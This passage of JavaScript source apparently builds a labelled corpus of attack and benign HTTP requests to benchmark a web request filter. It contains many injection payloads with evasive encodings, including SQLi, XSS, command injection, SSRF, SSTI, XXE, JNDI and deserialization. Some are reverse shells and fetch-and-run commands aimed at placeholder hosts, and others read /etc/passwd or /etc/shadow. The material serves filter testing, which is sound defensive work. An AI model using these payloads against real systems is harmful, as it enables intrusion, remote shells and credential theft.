  [(v) => ({ method: 'POST', path: '/api/import', headers: [...baseHeaders(), ['content-type', 'application/json']], body: v.startsWith('{') ? v : JSON.stringify({ data: v }) })]);
for (const ua of SCANNERS) {
  for (let k = 0; k < 3; k++) {
    const evasive = k === 2;
    const v = evasive ? mixCase(ua) : ua;
    add('scanner', { method: 'GET', path: pick(['/', '/admin', '/wp-login.php', '/.env', '/index.php?id=1']), headers: [['user-agent', v], ['accept', '*/*']] }, evasive, evasive ? 'evasion' : 'plain');
  }
}
// Prototype pollution: keys that reach Object.prototype when merged.
const PROTO_JSON = [
  '{"__proto__":{"isAdmin":true}}', '{"user":{"__proto__":{"role":"admin"}}}', '{"constructor":{"prototype":{"polluted":1}}}',
  '{"settings":{"theme":"dark","__proto__":{"shell":"/bin/sh"}}}', '{"a":[{"__proto__":{"toString":"x"}}]}',
];
const PROTO_KEYS = ['__proto__[isAdmin]', '__proto__.polluted', 'constructor[prototype][admin]', 'constructor.prototype.x', 'user[__proto__][role]'];
for (const b of PROTO_JSON) for (let i = 0; i < 6; i++) {
  const evasive = i % 2 === 1;
  const body = evasive ? b.replace(/__proto__/g, '\\u005f\\u005fproto\\u005f\\u005f').replace(/prototype/g, 'proto\\u0074ype') : b;
  add('prototype-pollution', { method: pick(['POST', 'PUT', 'PATCH']), path: '/api/profile', headers: [...baseHeaders(), ['content-type', 'application/json']], body }, evasive, evasive ? 'evasion' : 'plain');
}
for (const k of PROTO_KEYS) for (let i = 0; i < 6; i++) {
  const evasive = i % 2 === 1;
  const key = evasive ? encAll(k) : enc(k);
  add('prototype-pollution', pick([
    () => ({ method: 'GET', path: `/api/settings?${key}=true`, headers: baseHeaders() }),
    () => ({ method: 'POST', path: '/api/settings', headers: [...baseHeaders(), ['content-type', 'application/x-www-form-urlencoded']], body: `${key}=1&theme=dark` }),
  ])(), evasive, evasive ? 'evasion' : 'plain');
}
// A second set of payloads, in other styles (sqlmap-like, burp-like, polyglots, unicode
// look-alikes), each placed once plainly and once evasively.
const EXTRA = [["sqli", "1' and 1=1 and '1'='1"], ["sqli", "' or 1=1 limit 1 -- -+"], ["sqli", "admin' or 1=1 #"], ["sqli", "1' oR 2=2 /*"], ["sqli", "' UNION ALL SELECT NULL,NULL,NULL-- -"], ["sqli", "-1' union select 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()-- -"], ["sqli", "1 and extractvalue(0x0a,concat(0x0a,(select database())))"], ["sqli", "' and (select substring(@@version,1,1))='5"], ["sqli", "1 rlike (select (case when (1=1) then 1 else 0x28 end))"], ["sqli", "';shutdown--"], ["sqli", "1); waitfor delay '00:00:10'--"], ["command-injection", "' || (select 'a' from dual) || '"], ["sqli", "SLEEP(5)#"], ["sqli", "1 AND 5678=(SELECT 5678 FROM PG_SLEEP(5))"], ["sqli", "1' AND 3245=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) AND 'x'='x"], ["sqli", "ORDER BY 1,2,3--"], ["sqli", "admin')-- -"], ["sqli", "\" or 1=1--"], ["sqli", "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#"], ["sqli", "1 union select * from users"], ["sqli", "1;insert into users values('hacker','pw')"], ["sqli", "' or 'a'='a' or 'a'='a"], ["sqli", "%27%20or%201%3D1--"], ["sqli", "1%27%20AND%20SLEEP%285%29--%20-"], ["xss", "<svg><script>alert(1)</script>"], ["xss", "<img src=1 onerror=alert`1`>"], ["xss", "<iframe src=javascript:alert(1)>"], ["xss", "\"><img src=x onerror=confirm(1)>"], ["xss", "<a href=javascript&colon;alert(1)>x</a>"], ["xss", "<svg onload=alert&#40;1&#41;>"], ["xss", "<body/onload=alert(1)>"], ["xss", "<ScRiPt>prompt(1)</sCrIpT>"], ["xss", "\"autofocus onfocus=alert(1) x=\""], ["xss", "'-confirm(1)-'"], ["xss", "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"], ["xss", "<img src=\"x\" onerror=\"&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;\">"], ["xss", "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>"], ["ssrf", "<math><maction actiontype=\"statusline#http://x\" xlink:href=\"javascript:alert(1)\">click</maction></math>"], ["xss", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"], ["xss", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">X</text></a></svg>"], ["xss", "<input type=\"image\" src=x onerror=alert(1)>"], ["xss", "<isindex type=image src=1 onerror=alert(1)>"], ["xss", "<div onpointerover=\"alert(1)\">MOVE HERE</div>"], ["xss", "</textarea><script>alert(1)</script>"], ["xss", "<x contenteditable onblur=alert(1)>lose focus!"], ["xss", "<style>*{background:url(\"javascript:alert(1)\")}</style>"], ["path-traversal", "../../../../../../etc/passwd%00"], ["path-traversal", "....\\\\....\\\\....\\\\windows\\\\system.ini"], ["path-traversal", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"], ["path-traversal", "..%252f..%252f..%252fetc%252fpasswd"], ["path-traversal", "/../../../../../etc/shadow"], ["path-traversal", "file:///c:/windows/win.ini"], ["path-traversal", "../../../../WEB-INF/classes/application.properties"], ["path-traversal", "..%5c..%5c..%5cboot.ini"], ["path-traversal", "/etc/passwd"], ["path-traversal", "c:\\boot.ini"], ["command-injection", ";id"], ["command-injection", "|cat /etc/passwd"], ["command-injection", "`cat /etc/passwd`"], ["command-injection", "$(cat /etc/passwd)"], ["command-injection", "; ping -c 5 8.8.8.8"], ["command-injection", "&& dir"], ["command-injection", "| whoami"], ["command-injection", ";system('cat /etc/passwd')"], ["path-traversal", "%0Acat%20/etc/passwd"], ["command-injection", "127.0.0.1&&ipconfig"], ["command-injection", "a|/usr/bin/id"], ["command-injection", ";nc -nv 10.0.0.1 4444 -e /bin/bash"], ["ssrf", "$(wget -q -O- http://x.example/a|sh)"], ["shellshock", "() { ignored; }; echo Content-Type: text/plain; echo; /bin/cat /etc/passwd"], ["jndi", "${jndi:ldap://127.0.0.1:1389/Basic/Command/Base64/aWQ=}"], ["jndi", "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//x.example/a}"], ["jndi", "${jnd${upper:i}:ldap://x.example/a}"], ["jndi", "${${lower:jndi}:${lower:rmi}://x.example/a}"], ["ssrf", "http://127.0.0.1:80"], ["ssrf", "http://localhost:22"], ["ssrf", "http://[::]:80/"], ["ssrf", "http://0177.1/"], ["ssrf", "http://0x7f.1/"], ["ssrf", "http://169.254.169.254/computeMetadata/v1/"], ["ssrf", "http://[::ffff:169.254.169.254]/"], ["path-traversal", "file:///etc/passwd"], ["ssrf", "gopher://localhost:25/_HELO"], ["ssti", "{{4*4}}[[5*5]]"], ["ssti", "${7*7}"], ["ssti", "<%= File.open('/etc/passwd').read %>"], ["ssti", "{{''.__class__.__base__.__subclasses__()}}"], ["ssti", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}"], ["ssti", "#{7*7}"], ["ssti", "{{7*7}}"], ["xxe", "<!DOCTYPE foo [<!ELEMENT foo ANY ><!ENTITY xxe SYSTEM \"file:///etc/passwd\" >]><foo>&xxe;</foo>"], ["ssi", "<!--#exec cmd=\"/bin/ls\" -->"], ["ldap-injection", "*)(&"], ["ldap-injection", "*)(uid=*"], ["ldap-injection", "admin*)((|userpassword=*)"], ["nosqli", "{\"$gt\": \"\"}"], ["nosqli", "[$ne]=1"], ["deserialization", "O:4:\"User\":2:{s:4:\"name\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}"], ["deserialization", "rO0ABXQAVklmIHlvdSBjYW4gcmVhZCB0aGlzIHlvdSBtdXN0IGJlIGEgaGFja2Vy"], ["sqli", "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))-- x"], ["sqli", "-5 OR 3*2*1=6 AND 000518=000518 --"], ["sqli", "1) AND 3394=3394 AND (8213=8213"], ["sqli", "' AND 1=(SELECT COUNT(*) FROM tablenames); --"], ["sqli", "1 AnD 1=1"], ["sqli", "%') AND 1=1 AND ('%'='"], ["command-injection", "'; EXEC master..xp_cmdshell 'ping 10.10.1.2'--"], ["sqli", "SELECT/**/password/**/FROM/**/users"], ["sqli", "admin\" --"], ["sqli", "1 OR 'a'='a'"], ["sqli", "IF(1=1,SLEEP(5),0)"], ["sqli", "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z"], ["sqli", "\"XOR(if(now()=sysdate(),sleep(15),0))XOR\""], ["sqli", "(select(0)from(select(sleep(15)))v)/*'+(select(0)from(select(sleep(15)))v)+'\"+(select(0)from(select(sleep(15)))v)+\"*/"], ["xss", "<svg><animatetransform onbegin=alert(1)>"], ["xss", "<a id=x tabindex=1 onfocus=alert(1)></a>"], ["xss", "javascript://%0aalert(1)"], ["xss", "\"><svg onload=alert(1)//"], ["xss", "<iframe src=\"data:text/html,<script>alert(1)</script>\">"], ["xss", "'\"><script src=https://xss.example/c/x></script>"], ["xss", "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>"], ["xss", "<div style=\"width:expression(alert(1))\">"], ["xss", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"], ["xss", "<img src=`x`onerror=alert(1)>"], ["xss", "<svg/onload=&#97&#108&#101&#114&#116(1)>"], ["ssti", "{{constructor.constructor('alert(1)')()}}"], ["command-injection", "|| ping -c 21 127.0.0.1 ||"], ["command-injection", "$(sleep 10)"], ["command-injection", "; /usr/bin/id"], ["command-injection", "' ; cat /etc/shadow ; '"], ["command-injection", "a)|whoami"], ["command-injection", "%0a id"], ["command-injection", "ls${IFS}-la"], ["command-injection", ";${PATH:0:1}bin${PATH:0:1}cat${IFS}${PATH:0:1}etc${PATH:0:1}passwd"], ["command-injection", "127.0.0.1 | powershell -c Get-Process"], ["command-injection", "&& type %SYSTEMROOT%\\win.ini"], ["command-injection", "|/bin/bash -c 'sh -i >& /dev/tcp/1.2.3.4/80 0>&1'"], ["path-traversal", "..%u2216..%u2216..%u2216etc%u2216passwd"], ["path-traversal", "..%u2215..%u2215..%u2215etc%u2215passwd"], ["path-traversal", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd"], ["path-traversal", "/.././.././.././etc/passwd"], ["ssrf", "http://0xA9.0xFE.0xA9.0xFE/"], ["ssrf", "http://[::]:22/"], ["ssrf", "http://0000::1:80/"], ["ssrf", "http://127.000.000.001/"], ["ssrf", "http://①②⑦.⓪.⓪.①/"], ["ssrf", "http://customer1.app.localhost.my.company.127.0.0.1.nip.io/"], ["ssti", "${{<%[%'\"}}%\\."], ["ssti", "*{7*7}"], ["ssti", "{{=7*7}}"], ["ssti", "[[${7*7}]]"], ["jndi", "${${lower:${lower:jndi}}:${lower:rmi}://x.example/a}"], ["jndi", "${base64:JHtqbmRpOmxkYXA6Ly94fQ==}"], ["xss", "<!--<img src=\"--><img src=x onerror=alert(1)//\">"], ["xss", "<iframe/src=\"data:text/html,<svg onload=alert(1)>\">"], ["xss", "<style>@keyframes x{}</style><xss style=\"animation-name:x\" onanimationend=\"alert(1)\"></xss>"], ["xss", "<details/open/ontoggle=alert(1)>"], ["xss", "\\'-alert(1)//"], ["xss", "<a href=javascript&colon;alert(1)>x</a>"], ["xss", "<svg><foreignObject><iframe src=javascript:alert(1)>"], ["xss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"], ["xss", "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>"], ["sqli", "1 AND 1=1#"], ["sqli", "') or ('x')=('x"], ["sqli", "1) or (1)=(1"], ["sqli", "or 1=1--"], ["sqli", "' or 1=1 or ''='"], ["sqli", "-1 UNION SELECT 1 INTO @,@"], ["sqli", "1 or sleep(5)#"], ["sqli", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"], ["sqli", "admin' or '1'='1'#"], ["sqli", "1'and(select+1)=1--"], ["sqli", "1+and+1=1"], ["sqli", "1%20or%201=1%23"], ["sqli", "%' AND 1=1 AND '%'='"], ["sqli", "1' AND 1=1 AND '1'='1"], ["sqli", "1 and 1=1"], ["sqli", "1' or '1"], ["sqli", "' UNION SELECT @@version --"], ["sqli", "1 UNION SELECT username, password FROM users"], ["sqli", "1; SELECT * FROM information_schema.tables"], ["crlf", "%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"], ["crlf", "%0aSet-Cookie:crlf=injection"], ["crlf", "%23%0d%0aLocation:%20https://evil.example"], ["crlf", "/%0d%0aLocation:%20http://evil.example"], ["mail-injection", "from=me@example.com%0ATo:victim@example.com"], ["mail-injection", "subject=hi%0d%0abcc:%20a@b.c"], ["mail-injection", "a@b.c%0d%0aRCPT%20TO:%3Cc@d.e%3E"], ["ldap-injection", "test\")(cn=*"], ["ldap-injection", "admin)(|(password=*)"], ["ldap-injection", "*)(objectClass=*"], ["ldap-injection", "admin)(!(userPassword=x))"], ["ldap-injection", "(&(uid=admin)(userPassword=*))"], ["nosqli", "{\"username\": {\"$regex\": \"^a\"}}"], ["nosqli", "{\"$or\": [{\"a\": 1}, {\"b\": 2}]}"], ["nosqli", "username[$exists]=true"], ["nosqli", "{\"password\": {\"$nin\": [\"x\"]}}"], ["nosqli", "';sleep(5000);'"], ["nosqli", "' || this.password.length > 0 || '"], ["xxe", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"expect://id\">]><x>&e;</x>"], ["xxe", "<!DOCTYPE test [ <!ENTITY % init SYSTEM \"data://text/plain;base64,ZmlsZTovLy9ldGMvcGFzc3dk\"> %init; ]>"], ["xxe", "<svg xmlns=\"http://www.w3.org/2000/svg\"><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/></svg>"], ["ssi", "<!--#exec cmd=\"wget http://evil.example/s.sh\"-->"], ["ssi", "<!--#include file=\"/etc/passwd\" -->"], ["ssi", "<esi:include src=\"http://127.0.0.1/admin\"/>"], ["deserialization", "O:8:\"Exploit\":1:{s:3:\"cmd\";s:6:\"whoami\";}"], ["deserialization", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7"], ["deserialization", "{\"@type\":\"java.lang.AutoCloseable\"}"], ["deserialization", "!!python/object/new:os.system [id]"], ["rfi", "http://attacker.example/shell.php?"], ["rfi", "https://pastebin.com/raw/abc123?"], ["rfi", "ftp://198.51.100.1/backdoor.txt"], ["ssrf", "http://2130706433:8080/"], ["ssrf", "http://0x7f.0x0.0x0.0x1/"], ["ssrf", "http://127.0.1.3/"], ["ssrf", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"], ["ssrf", "http://metadata/computeMetadata/v1/instance/"], ["ssrf", "dict://localhost:6379/info"], ["shellshock", "() { :;}; /bin/bash -c \"nc 1.2.3.4 4444 -e /bin/sh\""]];
for (const [cls, p] of EXTRA) {
  add(cls, spread(p, ['q', 'id', 'input', 'value'], false), false, 'plain');
  add(cls, spread(pick([enc, jsUnicode, double])(p), ['q', 'id', 'input', 'value'], true), true, 'evasion');
}
// Protocol abuse: shapes Node's HTTP parser may itself reject before the filter (bench counts
// either as blocked); the corpus test drives them through the host directly.
const PROTO = [
  [['content-length', '5'], ['transfer-encoding', 'chunked']], [['content-length', '4'], ['content-length', '11']],
  [['transfer-encoding', 'chunked, identity']], [['transfer-encoding', ' chunked']], [['transfer-encoding', 'xchunked']],
  [['content-length', '-1']], [['content-length', '99999999999999999999']], [['content-length', '1e3']],
  [['x-trace', 'abc\u0000def']], [['x-note', 'one\u0001two']], [['transfer-encoding', 'chunked'], ['transfer-encoding', 'identity']],
];
for (const hs of PROTO) {
  for (let k = 0; k < 3; k++) {
    const evasive = k === 2;
    const extra = evasive ? hs.map(([n, v]) => [n, v.toUpperCase()]) : hs;
    add('protocol', { method: 'POST', path: '/api/orders', headers: [...baseHeaders(), ['content-type', 'application/json'], ...extra], body: '{"a":1}', hostOnly: true }, evasive, 'framing');
  }
}
for (const m of ['GE T', 'FOO<BAR>', 'GET\u0000', 'JEFF', 'TRACK', 'XYZZY']) {
  for (let k = 0; k < 2; k++) add('protocol', { method: m, path: '/', headers: baseHeaders(), hostOnly: true }, k === 1, 'method');
}
for (let k = 0; k < 4; k++) {
  add('protocol', { method: 'GET', path: '/search?q=' + 'a'.repeat(17000 + k), headers: baseHeaders(), hostOnly: true }, false, 'overlong uri');
  const many = [];
  for (let i = 0; i < 120 + k; i++) many.push([`x-h${i}`, String(i)]);
  add('protocol', { method: 'GET', path: '/', headers: [...baseHeaders(), ...many], hostOnly: true }, false, 'too many headers');
}

// ---------------------------------------------------------------- benign
const benign = [];
let bid = 0;
function ok(kind, req, note = '') {
  benign.push({ id: `b${String(++bid).padStart(4, '0')}`, ...req, label: 'benign', class: kind, evasive: false, note });
}

const PROSE = [
  `Please select the best option from the list and update your profile.`, `Where do I find the order history? I'd like to drop my old address.`,
  `Union members voted to select a new chair from three candidates.`, `The table is made from oak and has a drop-leaf design.`,
  `I'm looking for a union suit, size L, or XL if that's sold out.`, `Insert the tab into slot B, then delete the old filter from the tray.`,
  `Select all that apply: 1 or 2 bedrooms, and 1 or more bathrooms.`, `We can't update the delivery date once the order has shipped.`,
  `Join us from 9 to 5 -- the office is on the 3rd floor.`, `Is the shirt available in red and blue, or only in grey?`,
  `She said "where there's a will, there's a way" and left.`, `Order by Friday for delivery before the weekend.`,
  `It's 50% off today only; use the code at checkout.`, `My grandmother's recipe: 2 cups flour, 1 egg, salt & pepper.`,
  `The results were sorted by date, then grouped by region.`, `Can you execute the plan by next Monday? Thanks!`,
  `Drop me a line when you're back -- or call, whichever is easier.`, `Rock 'n' roll never dies, and neither does jazz.`,
  `Is 1=1 always true? In logic, yes; in SQL it's a classic example.`, `I paid $20 for 2 tickets (1 adult + 1 child).`,
  `Delete my account and all data, per GDPR article 17.`, `Where: Central Park; When: 10 am; Who: everyone!`,
  `The exec committee will select from the shortlist; results by Friday.`, `Sleep well, and don't forget to set the alarm for 6.`,
  `Insert coin. Select drink. Enjoy -- and recycle the can!`, `"Hello," she said, 'it's been a while.'`, `Price: 3 or 4 euros, depending on size.`,
  `I'll be there at 5 -- or 5:30 if traffic's bad.`, `Cats & dogs; birds & fish: we love them all.`, `A < B and C > D, so B > A.`,
];
const NAMES = [`O'Brien`, `D'Angelo`, `Shaquille O'Neal`, `Miles O'Keefe-Smith`, `Jean-Luc Picard`, `Zoë Saldaña`, `McDonald's`, `L'Oréal Paris`,
  `Renée O'Connor`, `Ngũgĩ wa Thiong'o`, `Mary-Kate d'Arcy`, `José Álvarez`, `Björk Guðmundsdóttir`, `François L'Écuyer`, `Li'l Pump Café`];
const CODE = [
  "Run `npm install` then `npm test` to check the build.", "Use `git log --oneline | head -5` to see recent commits.",
  "In Python: `for i in range(10): print(i * 2)`", "```js\nconst total = items.reduce((s, x) => s + x.price, 0);\n```",
  "The query `SELECT name FROM users WHERE id = ?` uses a bound parameter, which is safe.",
  "To list files use `ls -la` in your terminal; on Windows, `dir` works.", "function add(a, b) { return a + b; } // returns the sum",
  "if (user.isAdmin && !user.locked) { grantAccess(); }", "for (let i = 0; i < n; i++) { total += arr[i]; }",
  "x = [1, 2, 3]; y = map(lambda v: v * 2, x)", "The regex /^[a-z0-9_-]{3,16}$/ validates user names.",
  "CSS: .card > .title { font-weight: 600; color: #333; }", "Use `curl -X POST -d '{\"a\":1}' https://api.example.com/v1` to test.",
  "Markdown: **bold**, _italic_, and `code`.", "SQL tip: an index on (customer_id, created_at) speeds up ORDER BY created_at.",
  "In bash, `echo $HOME` prints your home directory.", "def greet(name):\n    return f\"Hello, {name}!\"",
  "const re = /\\d+/g; const nums = text.match(re);", "<pre><code>npm run build &amp;&amp; npm start</code></pre>",
  "Java: List<String> names = new ArrayList<>();", "Template example: Hello {{ user.first_name }}, your order {{ order.id }} shipped.",
  "Go: if err != nil { return fmt.Errorf(\"open: %w\", err) }", "Use `docker compose up -d` and then `docker ps` to check.",
  "Rust: let v: Vec<i32> = (1..=10).filter(|x| x % 2 == 0).collect();", "A JOIN B ON A.id = B.a_id returns matching rows.",
];
const RICH = [
  `<p>Hello <b>world</b>, welcome to <i>our</i> shop.</p>`, `<p>See <a href="https://example.com/docs/start">the guide</a> for details.</p>`,
  `<ul><li>Fast shipping</li><li>Free returns</li></ul>`, `<p><img src="https://cdn.example.com/img/cat.jpg" alt="a cat" width="300"></p>`,
  `<h2>Specs</h2><table><tr><td>Weight</td><td>2 kg</td></tr></table>`, `<p style="color: red; font-size: 14px">Sale ends soon!</p>`,
  `<blockquote>Great product &mdash; would buy again.</blockquote>`, `<p>Use the <code>&lt;div&gt;</code> element for layout.</p>`,
  `<div class="note"><span>Note:</span> bring your receipt.</div>`, `<p>Line one<br>Line two</p><hr>`, `<a href="/help/faq#returns" title="Returns">FAQ</a>`,
  `<p><strong>Important:</strong> read the <em>terms</em> first.</p>`, `<ol start="3"><li>Third</li><li>Fourth</li></ol>`,
  `<img src="/images/logo.png" alt="Logo"><p>Our story</p>`, `<p><a href="mailto:help@example.com">Email us</a> or call.</p>`,
  `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560" height="315" allowfullscreen></iframe>`,
  `<p>Relative link: <a href="../docs/intro.html">intro</a></p>`, `<figure><img src="https://cdn.example.com/a.png"><figcaption>Fig 1</figcaption></figure>`,
];
const UNICODE = [`東京都渋谷区神南1-2-3`, `Привет, как дела?`, `مرحبا بالعالم`, `こんにちは、元気ですか？`, `😀🎉🚀 Launch day!`, `Ünïcödé tëst — “quotes” ‘single’`,
  `价格：¥1,280（含税）`, `שלום עולם`, `Crème brûlée & café au lait`, `Ελληνικά: καλημέρα`, `한국어 테스트입니다`, `İstanbul'da güzel bir gün`,
  `ß ∑ ∞ ≠ ≤ ≥ ± × ÷`, `👩‍👩‍👧‍👦 family emoji`, `Ｆｕｌｌｗｉｄｔｈ　ｔｅｘｔ　１２３`, `naïve coöperation`, `ｓｅｌｅｃｔ　ｆｒｏｍ　ｍｅｎｕ`];
const SEARCH = [`red shoes size 42`, `laptop 16GB RAM -refurbished`, `"exact phrase" search`, `cats OR dogs`, `price:<100`, `c++ tutorial`, `c# vs java`,
  `how to drop a class in college`, `select committee union report`, `where is the nearest store`, `order status 12345`, `AT&T phone plans`,
  `Q&A session`, `R&D budget 2024`, `50% off`, `1/2 inch pipe`, `5' 10" height chart`, `tom & jerry`, `rock & roll hall of fame`, `#hashtag trends`,
  `user@example.com`, `+1 (555) 123-4567`, `C:\\Users\\Public\\Documents`, `/home/user/notes.txt`, `100-200`, `a+b=c`, `x*y`, `~tilde`, `it's raining`,
  `can't login`, `won't load`, `don't know`, `wasn't me`, `50/50`, `2 + 2 = 4`, `isn't it`, `(optional)`, `[draft]`, `{placeholder}`];
const JWTS = [
  'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NSIsIm5hbWUiOiJKYW5lIiwiaWF0IjoxNzAwMDAwMDAwfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
  'eyJhbGciOiJSUzI1NiIsImtpZCI6ImFiYzEyMyJ9.eyJpc3MiOiJodHRwczovL2F1dGguZXhhbXBsZS5jb20iLCJhdWQiOiJzaG9wIiwiZXhwIjoxOTAwMDAwMDAwfQ.c2lnbmF0dXJlLWJ5dGVzLWhlcmU',
];
const GRAPHQL = [
  `query { product(id: "42") { name price reviews(first: 5) { author text } } }`,
  `mutation AddReview($id: ID!, $text: String!) { addReview(productId: $id, text: $text) { id } }`,
  `query Search { search(term: "o'neill jackets", limit: 10) { ... on Product { id name } } }`,
  `{ viewer { login repositories(last: 3, orderBy: {field: CREATED_AT, direction: DESC}) { nodes { name } } } }`,
  `query ($where: OrderFilter) { orders(where: $where) { id total status } }`,
  `mutation { updateProfile(bio: "I love SQL -- select * is my favorite") { ok } }`,
  `query { __typename }`, `subscription { orderUpdated(id: "7") { status } }`,
];
const PASSWORDS = [`P@ssw0rd!2024`, `correct horse battery staple`, `Tr0ub4dor&3`, `hunter2;;`, `a'b"c<d>e`, `#Secret$123`, `p4$$w0rd|!`, `--Jk8*(2)`];
const URLS = [`https://www.example.com/products?id=42&ref=home`, `https://shop.example.com/cart`, `/account/settings`, `https://accounts.example.org/callback?state=xyz`,
  `https://cdn.example.net/assets/app.js?v=3.2.1`, `http://blog.example.com/2024/05/hello-world/`, `https://example.com/search?q=red+shoes&page=2`];

function benignValue(kind, v, idx) {
  const r = idx % 8;
  if (r === 0) return placeQuery(pick(['q', 'search', 'name', 'comment']), v);
  if (r === 1) return placeForm(pick(['comment', 'bio', 'message', 'address']), v);
  if (r === 2) return placeJson(pick(['note', 'description', 'text', 'title']), v);
  if (r === 3) return placeMultipart(pick(['description', 'caption']), v);
  if (r === 4) return placeXml(v);
  if (r === 5) return placeGraphql(v);
  if (r === 6) return placeQuery(pick(['filter', 'title']), v);
  return placeForm(pick(['subject', 'body']), v);
}

let n = 0;
for (let round = 0; round < 3; round++) {
  for (const t of PROSE) ok('prose-sql-words', benignValue('prose', t, n++));
  for (const t of NAMES) ok('apostrophe-names', benignValue('names', t, n++));
  for (const t of CODE) ok('code-snippets', benignValue('code', t, n++));
  for (const t of RICH) ok('rich-text-html', benignValue('rich', t, n++));
  for (const t of UNICODE) ok('unicode', benignValue('unicode', t, n++));
  for (const t of SEARCH) ok('search-queries', benignValue('search', t, n++));
  for (const t of PASSWORDS) ok('passwords', placeForm('password', t));
  for (const t of URLS) ok('urls', placeQuery(pick(['next', 'redirect', 'return_to', 'url']), t));
}
for (const g of GRAPHQL) for (let i = 0; i < 6; i++) {
  ok('graphql', { method: 'POST', path: '/graphql', headers: [...baseHeaders(), ['content-type', 'application/json']], body: JSON.stringify({ query: g, variables: { id: String(i), text: pick(PROSE), where: { status: 'OPEN' } } }) });
}
for (const j of JWTS) for (let i = 0; i < 20; i++) {
  ok('jwt', pick([
    () => ({ method: 'GET', path: '/api/me', headers: [...baseHeaders(), ['authorization', `Bearer ${j}`]] }),
    () => placeCookie(j), () => placeJson('token', j), () => placeQuery('id_token', j), () => placeForm('access_token', j),
  ])());
}
// Real-looking browser traffic: long cookies, analytics query strings, referers.
const COOKIES = [
  '_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000001; _fbp=fb.1.1700000000000.123456789',
  'session=eyJ1c2VyIjoiamFuZSJ9.Zx8rTw.abc123def456; csrftoken=Xk9pL2mN8qR4sT6v; consent={"ads":false,"stats":true}',
  'PHPSESSID=9d4f1b2c3a; cart=%7B%22items%22%3A%5B%7B%22id%22%3A12%2C%22q%22%3A1%7D%5D%7D; currency=EUR',
  'prefs=lang%3Den%26tz%3DEurope%2FBerlin; ajs_anonymous_id=%2246b1c2d3-e4f5%22; theme=dark',
];
for (let i = 0; i < 40; i++) {
  ok('browser-traffic', {
    method: 'GET',
    path: pick(['/', '/products/42?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024', '/search?q=winter+jacket&sort=price_asc&size[]=M&size[]=L',
      '/blog/2024/05/why-we-love-sql?ref=hn', '/api/v1/items?fields=id,name,price&filter[status]=active&page[size]=20', '/img/banner.png?w=1200&h=400&fit=crop']),
    headers: [['user-agent', pick([UA, 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15', 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0', 'curl/8.5.0', 'python-requests/2.31.0', 'okhttp/4.12.0'])],
      ['accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'], ['accept-language', 'en-US,en;q=0.9,de;q=0.7'],
      ['referer', pick(['https://www.google.com/', 'https://news.example.com/item?id=39912345', 'https://shop.example.com/cart?step=2&coupon=SAVE10'])],
      ['cookie', pick(COOKIES)], ['x-forwarded-for', pick(['203.0.113.5', '198.51.100.23, 10.0.0.4', '2001:db8::1'])]],
  });
}
// JSON APIs with nested objects, schema keys, numbers, nulls, base64 images.
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
for (let i = 0; i < 60; i++) {
  const docs = [
    { $schema: 'https://json-schema.org/draft/2020-12/schema', $id: 'https://example.com/order.schema.json', type: 'object', properties: { id: { type: 'integer' } } },
    { user: { name: pick(NAMES), email: 'jane.o\'brien@example.com', tags: ['vip', 'early-bird'], address: { line1: '12 Oak St; Apt 4', city: 'Dublin' } } },
    { avatar: `data:image/png;base64,${PNG}`, caption: pick(PROSE) },
    { items: [{ sku: 'SKU-001', qty: 1, price: 19.99 }, { sku: 'SKU-002', qty: 3, price: 5 }], coupon: null, note: pick(SEARCH) },
    { query: { bool: { must: [{ match: { title: 'union station' } }], filter: [{ range: { price: { gte: 10, lte: 100 } } }] } } },
    { event: 'page_view', props: { path: '/pricing', referrer: 'https://www.google.com/', screen: '1920x1080' }, ts: 1700000000 },
    { comment: pick(CODE), lang: 'en' },
    { html: pick(RICH), draft: true },
  ];
